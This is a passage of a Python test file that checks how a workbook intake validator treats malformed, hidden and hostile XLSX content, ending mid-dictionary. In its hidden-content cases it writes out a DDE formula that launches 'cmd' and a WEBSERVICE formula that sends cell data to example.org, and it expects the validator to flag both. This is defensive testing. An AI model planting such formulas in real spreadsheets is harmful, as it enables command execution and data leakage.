"""Hostile, broken and merely unlucky workbooks, each with what must become of it to the letter."""

from __future__ import annotations

import gzip
import re
import zipfile
import zlib
from dataclasses import replace

import pytest

from assurance.intake.package import PIECE
from tests.hostile.workbooks import (
    CENTRAL_CRC,
    CENTRAL_FLAGS,
    CENTRAL_METHOD,
    CENTRAL_OFFSET,
    CENTRAL_SIZE,
    GOOD,
    GOOD_CELLS,
    HEADER,
    KIND,
    LOCAL_CRC,
    LOCAL_FLAGS,
    LOCAL_METHOD,
    LOCAL_SIZE,
    MAIN,
    SHEET,
    Book,
    Outcome,
    Tab,
    between_parts,
    book,
    changed,
    link,
    number,
    outcome,
    patched,
    patched_in_front,
    relationships,
    row,
    streamed,
    table,
    text,
    with_cell,
    with_parts,
    worksheet,
    zipped,
)

CONTENT = Book().content()
PARTS = Book().parts()
DATE, MOMENT, DURATION, PERCENT = 1, 2, 3, 4
MAC = '<workbookPr date1904="1"/>'
DAMAGED, LARGE, BROKEN, ACTIVE = "RET-001", "RET-002", "RET-004", "RET-011"
FAR = "a value stands below row 51 or to the right of column 5"
TWO_SHEETS = "2 visible sheets where there should be one"
OUTSIDE = "holds macros, links"
NO_UTF8 = "its XML is not UTF-8"
ENTITIES = "its XML defines a document type or entities"


def accepted(*problems: tuple[str, int | None, int | None], cells=tuple(GOOD_CELLS), **more) -> Outcome:
    return Outcome(cells=tuple(cells), problems=problems, **more)


# One cell, to the letter


def shared(at: object) -> str:
    return f'<c r="B2" t="s"><v>{at}</v></c>'


def typed(kind: str, value: str) -> str:
    return f'<c r="B2" t="{kind}"><v>{value}</v></c>'


STRINGS = (
    "<t>met</t>",
    "<r><rPr><b/></rPr><t>N</t></r><r><t>A</t></r>",
    '<t>東京</t><rPh sb="0" eb="2"><t>とうきょう</t></rPh><phoneticPr fontId="1"/>',
    '<t xml:space="preserve">  NA  </t>',
    "<t>a_x000D_b</t>",
    "<t>a_x005F_x000D_b</t>",
    "<t>R&amp;D &lt;b&gt; &#233;&#x4e2d;</t>",
    "<t/>",
)

CELLS = {
    "number without its zeros": (number("B2", "0042"), "42"),
    "minus zero": (number("B2", "-0"), "0"),
    "a whole float": (number("B2", "7.0"), "7"),
    "a whole number as a power": (number("B2", "1E3"), "1000"),
    "a small number": (number("B2", "1.5E-7"), "1.5e-07"),
    "a number that no float can hold": (number("B2", "0.30000000000000004"), "0.30000000000000004"),
    "below the bound for whole floats": (number("B2", "999999999999999.0"), "999999999999999"),
    "at the bound for whole floats": (number("B2", "1E+15"), "1000000000000000.0"),
    "an integer of many digits": (number("B2", "12345678901234567890"), "12345678901234567890"),
    "a reference that became a number": (number("B2", "7001000026"), "7001000026"),
    "a number between white space": (number("B2", "\n 7 \n"), "7"),
    "a number by its type": (typed("n", "7"), "7"),
    "true": (typed("b", "1"), "TRUE"),
    "false": (typed("b", "0"), "FALSE"),
    "an error": (typed("e", "#N/A"), "#N/A"),
    "an error of a reference": (typed("e", "#REF!"), "#REF!"),
    "a text of a formula": (typed("str", " met &amp; kept "), "met & kept"),
    "a text that looks like a number": (typed("str", "007"), "007"),
    "a text that looks like a date": (text("B2", "04/07/2016"), "04/07/2016"),
    "a text that looks like a formula": (text("B2", "=1+1"), "=1+1"),
    "a text that is a word for nothing": (text("B2", "null"), "null"),
    "a shared text": (shared(0), "met"),
    "a shared text of two formats": (shared(1), "NA"),
    "a shared text and how it is pronounced": (shared(2), "東京"),
    "a shared text between spaces": (shared(3), "NA"),
    "a shared text with an escape": (shared(4), "a_x000D_b"),
    "a shared text with an escaped escape": (shared(5), "a_x000D_b"),
    "a shared text with entities": (shared(6), "R&D <b> é中"),
    "a shared text that is empty": (shared(7), ""),
    "text of two formats": ('<c r="B2" t="inlineStr"><is><r><t>N</t></r><r><t>A</t></r></is></c>', "NA"),
    "text with entities": (text("B2", "&lt;b&gt; &quot;&apos; &#233;&#x4e2d;"), "<b> \"' é中"),
    "text in a CDATA section": (text("B2", "<![CDATA[<a> & </row>]]>"), "<a> & </row>"),
    "text around a comment": (text("B2", "N<!-- <row r='9'> -->A"), "NA"),
    "a number around a comment": ('<c r="B2"><v>1<!-- 2 -->3</v></c>', "13"),
    "a cell with a format only": ('<c r="B2" s="1"/>', ""),
    "a cell with an empty value": ('<c r="B2"><v></v></c>', ""),
    "a cell with an empty value of any type": ('<c r="B2" t="s"><v/></c>', ""),
    "a cell that is not there": ("", ""),
    "a cell without its reference": ('<c t="inlineStr"><is><t>NA</t></is></c>', "NA"),
    "a date": (number("B2", 42555, DATE), "2016-07-04"),
    "a date with a time": (number("B2", "42555.5", DATE), "2016-07-04T12:00:00"),
    "a date a rounding away from midnight": (number("B2", "42554.9999999999", DATE), "2016-07-04"),
    "a date eight milliseconds before midnight": (number("B2", "46299.9999999", MOMENT), "2026-10-04T23:59:59.991000"),
    "the day that never was": (number("B2", 60, DATE), "1900-02-28"),
    "the day before it": (number("B2", 59, DATE), "1900-02-28"),
    "the day after it": (number("B2", 61, DATE), "1900-03-01"),
    "the first day": (number("B2", 1, DATE), "1900-01-01"),
    "no day": (number("B2", 0, DATE), "00:00:00"),
    "a time": (number("B2", "0.5", DATE), "12:00:00"),
    "a day before the first": (number("B2", -1, DATE), "1899-12-29"),
    "the last day": (number("B2", 2958465, DATE), "9999-12-31"),
    "a day after the last": (number("B2", 2958466, DATE), "#VALUE!"),
    "a day beyond all bounds": (number("B2", "1E300", DATE), "#VALUE!"),
    "a duration": (number("B2", "1.5", DURATION), "1 day, 12:00:00"),
    "a percentage": (number("B2", "0.995", PERCENT), "0.995"),
    "a style that is not there": (number("B2", 42555, 99), "42555"),
    "a date as a text of its own": (typed("d", "2016-07-04"), "2016-07-04"),
    "a date and midnight as a text of its own": (typed("d", "2016-07-04T00:00:00"), "2016-07-04"),
    "a moment as a text of its own": (typed("d", "2016-07-04T09:30:00Z"), "2016-07-04T09:30:00"),
    "a formula with a number": ('<c r="B2"><f>1+1</f><v>2</v></c>', "2"),
    "a formula with an error": ('<c r="B2" t="e"><f>1/0</f><v>#DIV/0!</v></c>', "#DIV/0!"),
    "a formula with a bar in a text": ('<c r="B2" t="str"><f>"a|b"&amp;"!"</f><v>a|b!</v></c>', "a|b!"),
    "a formula with another sheet": ("<c r=\"B2\"><f>'my sheet'!A1+T[[#This Row],[x]]</f><v>2</v></c>", "2"),
    "a formula with brackets in a text": ('<c r="B2" t="str"><f>"[1]Sheet!A1"&amp;A1</f><v>x</v></c>', "x"),
    "a shared formula": ('<c r="B2"><f t="shared" si="0"/><v>3</v></c>', "3"),
    "as many characters as a cell holds": (text("B2", "a" * 32_767), "a" * 32_767),
}


@pytest.mark.parametrize(("cell", "value"), CELLS.values(), ids=list(CELLS))
def test_a_cell_is_read_to_the_letter(cell: str, value: str) -> None:
    content = book(with_cell(cell), strings=STRINGS)
    assert outcome(content) == accepted(cells=[(2, ("1", value, "x"))])


@pytest.mark.parametrize(
    ("code", "value"),
    [
        ("dd/mm/yyyy", "2016-07-04"),
        ("[$-809]dd mmmm yyyy;@", "2016-07-04"),
        ("[Red]yyyy", "2016-07-04"),
        ("[h]:mm", "42555 days, 0:00:00"),
        ("&quot;day&quot; 0", "42555"),
        ("0.00%", "42555"),
        ("General;yyyy", "42555"),
        ("0_d", "42555"),
        ("@", "42555"),
    ],
)
def test_a_number_is_a_date_when_its_format_shows_one(code: str, value: str) -> None:
    content = book(with_cell(number("B2", 42555, 1)), formats=(code,))
    assert outcome(content) == accepted(cells=[(2, ("1", value, "x"))])


def test_days_are_counted_from_1904_where_the_workbook_says_so() -> None:
    content = book(with_cell(number("B2", 41093, DATE)), properties=MAC)
    assert outcome(content) == accepted(cells=[(2, ("1", "2016-07-04", "x"))])


def test_the_style_of_cells_that_name_none_may_show_a_date() -> None:
    styles = f'<styleSheet xmlns="{MAIN}"><cellXfs><xf numFmtId="14"/></cellXfs></styleSheet>'
    content = book(with_cell(number("B2", 42555)), edit=lambda parts: parts.update({"xl/styles.xml": styles.encode()}))
    assert outcome(content) == accepted(cells=[(2, ("1", "2016-07-04", "x"))])


NOT_TO_BE_BELIEVED = {
    "a number with underscores": number("B2", "1_000"),
    "a number in other digits": number("B2", "٤٢"),
    "a number in hexadecimal": number("B2", "0x10"),
    "a number that is none": number("B2", "NaN"),
    "a number without end": number("B2", "Infinity"),
    "a number with a comma": number("B2", "1,5"),
    "a number of blanks": number("B2", " "),
    "a style that is no number": '<c r="B2" s="x"><v>1</v></c>',
    "a truth that is neither": typed("b", "2"),
    "a truth in words": typed("b", "true"),
    "a type that nobody knows": typed("x", "1"),
    "a shared text that is not there": shared(8),
    "a shared text before the first": shared(-1),
    "a shared text by a fraction": shared("1.0"),
    "a date that is none": typed("d", "today"),
    "a date that never was": typed("d", "2016-02-30"),
    "two values": '<c r="B2"><v>1</v><v>2</v></c>',
    "two texts": '<c r="B2" t="inlineStr"><is><t>a</t></is><is><t>b</t></is></c>',
    "two formulas": '<c r="B2"><f>1</f><f>2</f><v>1</v></c>',
    "a value beside a text": '<c r="B2" t="inlineStr"><is><t>a</t></is><v>1</v></c>',
    "a value where a text is promised": '<c r="B2" t="inlineStr"><v>1</v></c>',
    "a text beside a value": '<c r="B2"><is><t>a</t></is><v>1</v></c>',
    "a text where a number is promised": '<c r="B2"><is><t>a</t></is></c>',
    "an element within a value": '<c r="B2"><v>1<x>2</x></v></c>',
    "a cell within a cell": '<c r="B2"><c r="C2"><v>1</v></c></c>',
    "a value within something else": '<c r="B2"><x><v>1</v></x></c>',
    "a reference in small letters": '<c r="b2"><v>1</v></c>',
    "a reference with signs": '<c r="$B$2"><v>1</v></c>',
    "a reference without a row": '<c r="B"><v>1</v></c>',
    "a reference without a column": '<c r="2"><v>1</v></c>',
    "a reference with a zero in front": '<c r="B02"><v>1</v></c>',
    "a reference that is empty": '<c r=""><v>1</v></c>',
    "a reference beyond the last column": '<c r="XFE2"><v>1</v></c>',
    "a reference of four letters": '<c r="AAAA2"><v>1</v></c>',
    "an entity that nobody defined": text("B2", "&zebra;"),
    "a character that XML has not": text("B2", "a\x01b"),
    "a character that is none": text("B2", "a\ufffeb"),
    "the end of a section that never began": text("B2", "a]]>b"),
    "an attribute given twice": '<c r="B2" s="0" s="0"><v>1</v></c>',
    "a prefix that nobody defined": '<c r="B2"><y:v>1</y:v></c>',
}


@pytest.mark.parametrize("cell", NOT_TO_BE_BELIEVED.values(), ids=list(NOT_TO_BE_BELIEVED))
def test_a_cell_that_two_programs_could_read_in_two_ways_is_not_read(cell: str) -> None:
    refused = outcome(book(with_cell(cell), strings=STRINGS))
    assert (refused.refused, refused.detail.split(",")[0]) == (DAMAGED, "the workbook is damaged")


@pytest.mark.parametrize(
    "rows",
    [
        table(HEADER) + '<row r="0"><c><v>1</v></c></row>',
        table(HEADER) + '<row r="2.0"><c><v>1</v></c></row>',
        table(HEADER) + '<row r="two"><c><v>1</v></c></row>',
        table(HEADER) + '<row r="99999999"><c><v>1</v></c></row>',
        table(HEADER) + '<row r="2" ht="high"><c><v>1</v></c></row>',
        table(HEADER) + f'<row r="2">{row(3, text("A3", "1"))}</row>',
        table(HEADER) + f"<x>{row(2, text('A2', '1'))}</x>",
        table(HEADER) + f"</sheetData><sheetData>{table(('1', 'Y', ''), first=2)}",
        table(HEADER) + f"</sheetData>{table(('1', 'Y', ''), first=2)}<sheetData>",
        table(HEADER) + text("A2", "1"),
        table(HEADER) + "<row r='2'><c r='A2'><v>1</v></row></c>",
        table(HEADER) + f'<mc:AlternateContent xmlns:mc="m"><mc:Choice>{row(2, text("A2", "1"))}</mc:Choice>'
        "</mc:AlternateContent>",
    ],
    ids=[
        *("row zero", "row of a fraction", "row of a word", "row beyond all rows", "height of a word", "row in a row"),
        *("row in something else", "two tables", "row outside of the table", "cell outside of a row", "tangled"),
        "rows of which one is to be chosen",
    ],
)
def test_rows_that_two_programs_could_read_in_two_ways_are_not_read(rows: str) -> None:
    assert outcome(book(rows)).refused == DAMAGED


# Rows and columns


def accepted_rows(*rows: tuple[int, tuple[str, ...]], problems=(), **more) -> Outcome:
    return Outcome(cells=rows, problems=tuple(problems), **more)


STYLED_TAIL = "".join(
    f'<row r="{at}">' + "".join(f'<c r="{c}{at}" s="1"/>' for c in "ABC") + "</row>" for at in range(3, 5003)
)
WIDE_TAIL = row(2, text("A2", "001"), text("B2", "NA"), text("C2", "x"), '<c r="D2" s="1"/><c r="XFD2" s="1"/>')
PREFIXED = re.sub(r"<(/?)(?=[a-z])", r"<\1x:", worksheet(GOOD)).replace("xmlns=", "xmlns:x=")
PRETTY = worksheet(GOOD).replace("><", ">\n  <")

LAYOUTS = {
    "rows and cells without their places": (
        book(
            "<row>" + "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in HEADER) + "</row>"
            "<row><c><v>1</v></c><c><v>2</v></c></row>"
        ),
        accepted(cells=[(2, ("1", "2", ""))]),
    ),
    "blank rows in front": (
        book(table(HEADER, ("1", "Y", "x"), first=4)),
        accepted(("RET-014", None, None), cells=[(5, ("1", "Y", "x"))]),
    ),
    "a blank column in front": (
        book(table(("", *HEADER), ("", "1", "Y", "x"))),
        accepted(header=("", *HEADER), cells=[(2, ("", "1", "Y", "x"))]),
    ),
    "a blank column after it": (
        book(table((*HEADER, ""), ("1", "Y", "x", ""))),
        accepted(cells=[(2, ("1", "Y", "x"))]),
    ),
    "rows that end before the header": (
        book(table(HEADER, ("1",), ("", "Y"))),
        accepted(cells=[(2, ("1", "", "")), (3, ("", "Y", ""))]),
    ),
    "a value beyond the header": (
        book(table(HEADER, ("1", "Y", "x", "", "z"), ("2",))),
        accepted((BROKEN, 2, None), cells=[(3, ("2", "", ""))]),
    ),
    "5,000 rows with formats only": (book(GOOD + STYLED_TAIL), accepted()),
    "a format in the last row": (book(GOOD + '<row r="1048576"><c r="A1048576" s="1"/></row>'), accepted()),
    "a format in the last column": (book(table(HEADER) + WIDE_TAIL), accepted()),
    "a row with a format only, closed at once": (book(GOOD + '<row r="9" s="1" customFormat="1"/>'), accepted()),
    "a row of blanks": (book(GOOD + row(5, text("B5", "  "))), accepted(("RET-014", None, None))),
    "all on one line and none": (book(f"\n{GOOD}\n"), accepted()),
    "indented": (Book((Tab("Return", PRETTY),)).content(), accepted()),
    "elements with a prefix": (Book((Tab("Return", PREFIXED),)).content(), accepted()),
    "a mark of its byte order": (Book((Tab("Return", "\ufeff" + worksheet(GOOD)),)).content(), accepted()),
    "a declaration in small letters": (
        Book((Tab("Return", "<?xml version='1.0' encoding='utf-8' standalone='yes'?>" + worksheet(GOOD)),)).content(),
        accepted(),
    ),
    "a row in a comment": (
        book(table(HEADER) + f"<!-- {row(2, text('A2', '9'))} -->" + table(("001", "NA", "x"), first=2)),
        accepted(),
    ),
    "rows in a comment in front": (book(GOOD, head=f"<!-- <sheetData>{table(('a', 'b'))}</sheetData> -->"), accepted()),
    "rows after a comment": (book(table(HEADER) + "<!-- -->" + table(("001", "NA", "x"), first=2)), accepted()),
    "rows in another namespace": (
        book(GOOD + '<x:row xmlns:x="x" r="9"><x:c r="A9"><x:v>1</x:v></x:c></x:row>'),
        accepted(),
    ),
    "rows whose namespace is another": (book(GOOD + f'<row r="9" xmlns="x">{text("A9", "1")}</row>'), accepted()),
    "attributes in single quotes": (book(GOOD.replace('"', "'")), accepted()),
    "attributes in another order": (
        book(
            table(HEADER) + "<row spans='1:3' r='2'><c t='inlineStr' r='A2'><is><t>001</t></is></c>"
            '<c t="inlineStr" s="0" r="B2"><is><t>NA</t></is></c><c t="str" r="C2"><v>x</v></c></row>'
        ),
        accepted(),
    ),
    "rows as Excel writes them": (
        Book(
            (
                Tab(
                    "Return",
                    worksheet(GOOD.replace('r="2"', 'r="2" spans="1:3" x14ac:dyDescent="0.25"', 1)).replace(
                        " xmlns:r", ' xmlns:x14ac="y" xmlns:r'
                    ),
                ),
            )
        ).content(),
        accepted(),
    ),
    "as many columns as are allowed": (
        book(table((*HEADER, "d", "e"), ("1",))),
        accepted(header=(*HEADER, "d", "e"), cells=[(2, ("1", "", "", "", ""))]),
    ),
    "a no-break space and a line end": (
        book(table(HEADER, ("1", "a\u00a0b", "c\nd"))),
        accepted(("RET-012", 2, 2), cells=[(2, ("1", "a\u00a0b", "c\ufffdd"))]),
    ),
    "a character that nobody sees": (
        book(table(HEADER, ("1", "N\u200bA", "x"))),
        accepted(("RET-012", 2, 1), cells=[(2, ("1", "N\ufffdA", "x"))]),
    ),
    "the mark that parts cells": (book(table(HEADER, ("1", "a&#x1f;b", "x"))), Outcome(DAMAGED)),
    "nothing but a header": (book(table(HEADER)), accepted(cells=[])),
    "no rows at all": (book(""), Outcome(DAMAGED, "it is empty")),
    "no table of rows": (Book((Tab("Return", f'<worksheet xmlns="{MAIN}"/>'),)).content(), Outcome(DAMAGED)),
    "one row too many": (book(table(HEADER, *[("1",)] * 51)), Outcome(LARGE, FAR)),
    "one column too many": (book(table((*HEADER, "d", "e", "f"))), Outcome(LARGE, FAR)),
    "a value in the last row": (book(GOOD + row(1048576, text("A1048576", "1"))), Outcome(LARGE, FAR)),
    "a value in the last cell": (book(GOOD + row(1048576, text("XFD1048576", "1"))), Outcome(LARGE, FAR)),
    "a value below the last row": (book(GOOD + row(1048577, text("A1048577", "1"))), Outcome(LARGE, FAR)),
    "a formula far away": (book(GOOD + row(900, '<c r="A900"><f>1</f></c>')), Outcome(LARGE, FAR)),
    "a shared text longer than a cell": (
        book(with_cell(shared(0)), strings=(f"<t>{'a' * 32_768}</t>",)),
        Outcome(BROKEN, "a value is too long", 2),
    ),
    "a text of a formula longer than a cell": (
        book(with_cell(typed("str", "a" * 32_768))),
        Outcome(BROKEN, "a value is too long", 2),
    ),
}


def assert_outcome(content: bytes, expected: Outcome) -> None:
    found = outcome(content)
    if not expected.refused:
        assert found == expected
    else:
        assert (found.refused, found.row, found.cells) == (expected.refused, expected.row, ())
        assert expected.detail in found.detail


@pytest.mark.parametrize(("content", "expected"), LAYOUTS.values(), ids=list(LAYOUTS))
def test_a_table_however_it_is_laid_out(content: bytes, expected: Outcome) -> None:
    assert_outcome(content, expected)


# What cannot be seen


def hidden_row(attributes: str) -> bytes:
    return book(table(HEADER) + row(2, text("A2", "001"), text("B2", "NA"), text("C2", "x"), attributes=attributes))


def columns(*more: str) -> str:
    return f"<cols>{''.join(f'<col {one}/>' for one in more)}</cols>"


HIDDEN_ROW = accepted((ACTIVE, 2, None))
MERGES = '<mergeCells count="1"><mergeCell ref="{}"/></mergeCells>'.format

UNSEEN = {
    "a hidden row": (hidden_row(' hidden="1"'), HIDDEN_ROW),
    "a row that a filter hides": (hidden_row(' hidden="true"'), HIDDEN_ROW),
    "a row folded into its group": (hidden_row(' hidden="1" outlineLevel="1"'), HIDDEN_ROW),
    "a row whose group is not folded": (hidden_row(' outlineLevel="1" collapsed="0" hidden="0"'), accepted()),
    "a row without height": (hidden_row(' ht="0" customHeight="1"'), HIDDEN_ROW),
    "a row of less than a point": (hidden_row(' ht="0.05"'), HIDDEN_ROW),
    "a row of a height below nothing": (hidden_row(' ht="-1"'), HIDDEN_ROW),
    "a row that is low": (hidden_row(' ht="3"'), accepted()),
    "rows that have no height of their own": (
        book(head='<sheetFormatPr defaultRowHeight="0"/>'),
        accepted((ACTIVE, 1, None), (ACTIVE, 2, None)),
    ),
    "rows that are hidden where there are none": (
        book(head='<sheetFormatPr defaultRowHeight="15" zeroHeight="1"/>'),
        accepted(),
    ),
    "a hidden row without values": (book(GOOD + '<row r="3" hidden="1"><c r="A3" s="1"/></row>'), accepted()),
    "a hidden column": (book(head=columns('min="2" max="2" hidden="1"')), accepted((ACTIVE, None, 1))),
    "a column without width": (
        book(head=columns('min="2" max="2" width="0" customWidth="1"')),
        accepted((ACTIVE, None, 1)),
    ),
    "a column of less than a letter": (book(head=columns('min="2" max="2" width="0.04"')), accepted((ACTIVE, None, 1))),
    "all columns": (
        book(head=columns('min="1" max="16384" style="1" hidden="1"')),
        accepted((ACTIVE, None, 0), (ACTIVE, None, 1), (ACTIVE, None, 2)),
    ),
    "all columns to the right": (
        book(head=columns('min="1" max="3" width="9"', 'min="4" max="16384" hidden="1"')),
        accepted(),
    ),
    "columns that have no width of their own": (
        book(head='<sheetFormatPr defaultColWidth="0" defaultRowHeight="15"/>' + columns('min="1" max="2" width="9"')),
        accepted((ACTIVE, None, 2)),
    ),
    "more columns than there are": (book(head=columns(*['min="1" max="1" width="9"'] * 16_385)), Outcome(DAMAGED)),
    "a column by a word": (book(head=columns('min="A" max="B" hidden="1"')), Outcome(DAMAGED)),
    "a hidden column that only has a formula": (
        book(
            table(HEADER[:2], ("1",))
            .replace("</row>", '<c r="C2"><f>1</f></c></row>')
            .replace('<c r="C2"><f>1</f></c></row>', "</row>", 1),
            head=columns('min="3" max="3" hidden="1"'),
        ),
        accepted((ACTIVE, None, 2), (ACTIVE, 2, 2), header=HEADER[:2], cells=[(2, ("1", ""))]),
    ),
    "merged cells": (book(tail=MERGES("A2:B2")), accepted((ACTIVE, 2, 0))),
    "the table in one cell": (book(tail=MERGES("A1:XFD1048576")), accepted((ACTIVE, 1, 0))),
    "merged cells beside the table": (book(tail=MERGES("E1:F2")), accepted()),
    "merged cells below the table": (book(tail=MERGES("A3:C3")), accepted()),
    "merged cells that are none": (book(tail=MERGES("here")), Outcome(DAMAGED)),
    "50,000 merged cells": (
        book(
            tail="<mergeCells>" + "".join(f'<mergeCell ref="H{n}:I{n}"/>' for n in range(1, 50_001)) + "</mergeCells>"
        ),
        accepted(),
    ),
    "a formula without a value": (
        book(with_cell('<c r="B2"><f>1</f></c>')),
        accepted((ACTIVE, 2, 1), cells=[(2, ("1", "", "x"))]),
    ),
    "a formula of text without a value": (
        book(with_cell('<c r="B2" t="str"><f>A1</f></c>')),
        accepted((ACTIVE, 2, 1), cells=[(2, ("1", "", "x"))]),
    ),
    "a formula of text whose value is empty": (
        book(with_cell('<c r="B2" t="str"><f>A1</f><v></v></c>')),
        accepted(cells=[(2, ("1", "", "x"))]),
    ),
    "a formula that calls another program": (
        book(with_cell('<c r="B2" t="str"><f>cmd|\'/c calc\'!A0</f><v>Y</v></c>')),
        accepted((ACTIVE, 2, 1), cells=[(2, ("1", "Y", "x"))]),
    ),
    "a formula that fetches a page": (
        book(with_cell('<c r="B2" t="str"><f>WEBSERVICE("http://example.org/"&amp;A2)</f><v>Y</v></c>')),
        accepted((ACTIVE, 2, 1), cells=[(2, ("1", "Y", "x"))]),
    ),
    "a formula that reads a sheet of another workbook by its number": (
        book(with_cell('<c r="B2" t="str"><f>[1]Sheet1!A1</f><v>Y</v></c>')),
        accepted((ACTIVE, 2, 1), cells=[(2, ("1", "Y", "x"))]),
    ),
    "a formula that reads a sheet of another workbook by its place": (
        book(with_cell('<c r="B2" t="str"><f>\'/srv/share/[b.xlsx]S\'!A1</f><v>Y</v></c>')),
        accepted((ACTIVE, 2, 1), cells=[(2, ("1", "Y", "x"))]),
    ),
    "a formula that reads a sheet of a page of the web": (
        book(with_cell('<c r="B2" t="str"><f>\'https://example.org/[b.xlsx]S\'!A1</f><v>Y</v></c>')),
        accepted((ACTIVE, 2, 1), cells=[(2, ("1", "Y", "x"))]),
    ),
    "a formula that reads a file by its address": (
        book(with_cell('<c r="B2" t="str"><f>\'file:///x\'#$S.A1</f><v>Y</v></c>')),
        accepted((ACTIVE, 2, 1), cells=[(2, ("1", "Y", "x"))]),
    ),
}


@pytest.mark.parametrize(("content", "expected"), UNSEEN.values(), ids=list(UNSEEN))
def test_what_cannot_be_seen_is_named(content: bytes, expected: Outcome) -> None:
    assert_outcome(content, expected)


# Sheets

ANSWERS = ("rule", "column", "question", "answer")


def answers(*rows: tuple[str, ...], header: tuple[str, ...] = ANSWERS, state: str = "", first: int = 1) -> Tab:
    return Tab("answers", worksheet(table(header, *rows, first=first)), state)


def declaration(*rows: tuple[str, ...]) -> Tab:
    return Tab("declaration", worksheet(table(*rows)))


GUIDANCE = Tab("guidance", worksheet(table(("How to fill it in",), ("1",) * 26)))
NIL = declaration(("reason", ""), ("nil return", "yes"))
MANY = [(f"BCM-{at:03}", "", "Why?", "Because") for at in range(600)]

SHEETS = {
    "all that may stand beside": (
        book(
            beside=(GUIDANCE, declaration(("reason", "Late cases")), answers(("BCM-001", "C01", "Why?", "So it was")))
        ),
        accepted(reason="Late cases", answers=(("BCM-001", "C01", "So it was"),)),
    ),
    "an answer about the whole return": (
        book(beside=(answers(("BCM-001", "", "Why?", "So")),)),
        accepted(answers=(("BCM-001", None, "So"),)),
    ),
    "a question without an answer": (
        book(beside=(answers(("BCM-001", "C01", "Why?"), ("BCM-002", "", "", "  ")),)),
        accepted(),
    ),
    "an answer of several lines": (
        book(beside=(answers(("BCM-001", "", "", "one\n two\u200b")),)),
        accepted(answers=(("BCM-001", None, "one two\ufffd"),)),
    ),
    "a long answer": (
        book(beside=(answers(("BCM-001", "", "", "a" * 2_001)),)),
        accepted(answers=(("BCM-001", None, "a" * 2_000),)),
    ),
    "many answers": (
        book(beside=(answers(*MANY),)),
        accepted(answers=tuple((rule, None, "Because") for rule, *_ in MANY[:500])),
    ),
    "answers below a blank row": (
        book(beside=(Tab("Answers", worksheet(table(ANSWERS) + table(("BCM-001", "", "", "So"), first=5))),)),
        accepted(answers=(("BCM-001", None, "So"),)),
    ),
    "answers under another header": (
        book(beside=(answers(header=("Rule", *ANSWERS[1:])),)),
        Outcome(ACTIVE, TWO_SHEETS),
    ),
    "answers with a column more": (book(beside=(answers(header=(*ANSWERS, "more")),)), Outcome(ACTIVE, TWO_SHEETS)),
    "answers with a far column more": (
        book(beside=(answers(header=(*ANSWERS, *[""] * 20, "z")),)),
        Outcome(ACTIVE, TWO_SHEETS),
    ),
    "answers whose header is not in the first row": (book(beside=(answers(first=2),)), Outcome(ACTIVE, TWO_SHEETS)),
    "an empty sheet of answers": (book(beside=(Tab("answers", worksheet("")),)), Outcome(ACTIVE, TWO_SHEETS)),
    "hidden answers": (book(beside=(answers(state="hidden"),)), Outcome(ACTIVE, "a hidden sheet holds data")),
    "a nil return": (book(table(HEADER), beside=(NIL,)), accepted(cells=[], nil=True)),
    "a nil return in capitals": (
        book(table(HEADER), beside=(declaration(("Nil return:", "YES")),)),
        accepted(cells=[], nil=True),
    ),
    "a nil return with blank rows": (
        book(table(HEADER, ("  ",)), beside=(NIL,)),
        accepted(("RET-014", None, None), cells=[], nil=True),
    ),
    "a nil return with a row": (book(beside=(NIL,)), accepted(nil=True)),
    "no nil return": (book(table(HEADER), beside=(declaration(("nil return", "no")),)), accepted(cells=[])),
    "a nil return whose answer stands below": (
        book(table(HEADER), beside=(declaration(("nil return",), ("yes",)),)),
        accepted(cells=[]),
    ),
    "a reason and a nil return": (
        book(table(HEADER), beside=(declaration(("nil return", "Yes"), ("reason", "No cases left")),)),
        accepted(cells=[], nil=True, reason="No cases left"),
    ),
    "no reason above other labels": (book(beside=(declaration(("reason",), ("name", "A")),)), accepted()),
    "a declaration as wide as a sheet": (
        book(
            beside=(
                Tab(
                    "declaration",
                    worksheet(
                        row(
                            1,
                            text("XFD1", "x"),
                        )
                    ),
                ),
            )
        ),
        accepted(),
    ),
    "guidance as large as it likes": (
        book(beside=(Tab("Guidance ", worksheet(row(1048576, text("XFD1048576", "x")))),)),
        accepted(),
    ),
    "a hidden sheet with nothing but a format": (
        book(beside=(Tab("lists", worksheet(row(1, '<c r="A1" s="1"/>')), "hidden"),)),
        accepted(),
    ),
    "a hidden sheet with a formula": (
        book(beside=(Tab("x", worksheet(row(9, '<c r="A9"><f>1</f></c>')), "veryHidden"),)),
        Outcome(ACTIVE, "a hidden sheet holds data"),
    ),
    "the table hidden": (
        Book((Tab("Return", worksheet(GOOD), "hidden"), GUIDANCE)).content(),
        Outcome(ACTIVE, "a hidden sheet"),
    ),
    "nothing but guidance": (Book((GUIDANCE,)).content(), Outcome(ACTIVE, "0 visible sheets")),
    "two tables": (book(beside=(Tab("More", worksheet(GOOD)),)), Outcome(ACTIVE, TWO_SHEETS)),
    "an empty sheet beside it": (book(beside=(Tab("Sheet2", worksheet("")),)), Outcome(ACTIVE, TWO_SHEETS)),
    "two sheets of one name": (book(beside=(GUIDANCE, replace(GUIDANCE, name="GUIDANCE"))), Outcome(DAMAGED)),
    "a state that nobody knows": (book(beside=(Tab("x", worksheet(""), "shy"),)), Outcome(DAMAGED)),
    "a sheet whose part is missing": (
        book(beside=(GUIDANCE,), edit=lambda parts: parts.pop("xl/worksheets/sheet2.xml")),
        Outcome(DAMAGED),
    ),
    "two sheets of one part": (
        changed("xl/workbook.xml", "</sheets>", '<sheet name="b" sheetId="2" state="hidden" r:id="s1"/></sheets>'),
        Outcome(DAMAGED),
    ),
    "a sheet without a link": (changed("xl/workbook.xml", ' r:id="s1"', ""), Outcome(DAMAGED)),
    "a link to nowhere": (changed("xl/workbook.xml", 'r:id="s1"', 'r:id="s9"'), Outcome(DAMAGED)),
    "no sheets": (Book(()).content(), Outcome(DAMAGED)),
    "a chart as a sheet": (
        book(beside=(Tab("Chart", f'<chartsheet xmlns="{MAIN}"/>', kind="chartsheet"),)),
        Outcome(ACTIVE, TWO_SHEETS),
    ),
    "a sheet of dialogs": (book(beside=(Tab("x", worksheet(""), kind="dialogsheet"),)), Outcome(ACTIVE, OUTSIDE)),
    "a sheet of macros": (book(beside=(Tab("x", worksheet(""), kind="xlMacrosheet"),)), Outcome(ACTIVE, OUTSIDE)),
    "a sheet that is a page": (Book((Tab("Return", "<html><body/></html>"),)).content(), Outcome(DAMAGED)),
    "a sheet of a strict workbook": (
        Book(
            (Tab("Return", worksheet(GOOD).replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main")),)
        ).content(),
        Outcome(DAMAGED),
    ),
    "a strict workbook": (
        Book(
